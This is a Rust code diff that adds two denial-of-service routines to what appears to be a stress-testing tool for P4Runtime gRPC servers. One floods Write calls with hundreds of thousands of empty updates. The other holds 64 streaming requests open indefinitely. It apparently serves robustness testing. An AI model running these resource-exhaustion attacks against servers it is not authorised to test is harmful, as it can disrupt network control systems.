@@ -17,8 +17,10 @@ use tonic::codegen::http::uri::PathAndQuery;
 use tonic::transport::Channel;
 
 /// All attacks, by name.
-pub const ATTACKS: [&str; 9] = [
+pub const ATTACKS: [&str; 11] = [
     "malformed protobuf",
+    "empty updates",
+    "endless requests",
     "noise instead of HTTP/2",
     "oversized messages",
     "large messages",
@@ -60,7 +62,7 @@ pub async fn attack(name: &str, target: Target, until: Instant) -> u64 {
     let tasks = match name {
         "1000 connections" => 1_000,
         "slow readers" => 64,
-        "large messages" | "oversized messages" => 4,
+        "large messages" | "oversized messages" | "empty updates" => 4,
         _ => 16,
     };
     let mut all = JoinSet::new();
@@ -87,6 +89,8 @@ async fn once(name: &str, target: &Target, until: Instant) -> u64 {
     let attempt = async {
         match name {
             "malformed protobuf" => malformed(target, until).await,
+            "empty updates" => empty(target, until).await,
+            "endless requests" => endless(target, until).await,
             "noise instead of HTTP/2" => noise(target).await,
             "oversized messages" => large(target, 80 << 20).await,
             "large messages" => large(target, 16 << 20).await,
@@ -121,6 +125,35 @@ async fn malformed(target: &Target, until: Instant) -> Option<u64> {
         times += 1;
     }
     Some(times)
+}
+
+/// A `WriteRequest` of updates that are nothing: two bytes each, and hundreds when it is unpacked.
+async fn empty(target: &Target, until: Instant) -> Option<u64> {
+    let mut client = target.client().await?;
+    let mut times = 0;
+    while Instant::now() < until {
+        let many = vec![Update::default(); 500_000];
+        let _ = client.write(many, Atomicity::ContinueOnError).await;
+        times += 1;
+    }
+    Some(times)
+}
+
+/// Requests that begin, and never end.
+async fn endless(target: &Target, until: Instant) -> Option<u64> {
+    let channel = Channel::from_shared(format!("http://{}", target.plain)).ok()?.connect().await.ok()?;
+    let mut hanging = JoinSet::new();
+    for _ in 0..64 {
+        let mut raw = tonic::client::Grpc::new(channel.clone());
+        hanging.spawn(async move {
+            raw.ready().await.ok()?;
+            let codec = tonic_prost::ProstCodec::<Malformed, WriteResponse>::default();
+            let nothing = tonic::Request::new(tokio_stream::pending());
+            raw.client_streaming(nothing, PathAndQuery::from_static("/p4.v1.P4Runtime/Write"), codec).await.ok()
+        });
+    }
+    tokio::time::sleep(until.saturating_duration_since(Instant::now())).await;
+    Some(hanging.len() as u64)
 }
 
 async fn noise(target: &Target) -> Option<u64> {
